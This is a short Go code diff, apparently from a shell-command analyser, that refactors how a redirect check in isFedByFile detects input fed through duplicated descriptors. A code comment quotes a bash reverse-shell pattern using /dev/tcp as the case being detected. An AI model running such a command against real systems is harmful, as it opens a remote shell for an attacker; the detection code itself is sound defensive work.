@@ -134,7 +134,7 @@ func isFedByFile(redirs []*syntax.Redirect) bool {
 				return true
 			}
 		case syntax.DplOut:
-			if r.N != nil && r.N.Value == "0" { // bash >&/dev/tcp/h/1 0>&1
+			if isInput(r.N) { // bash >&/dev/tcp/h/1 0>&1
 				return true
 			}
 		}
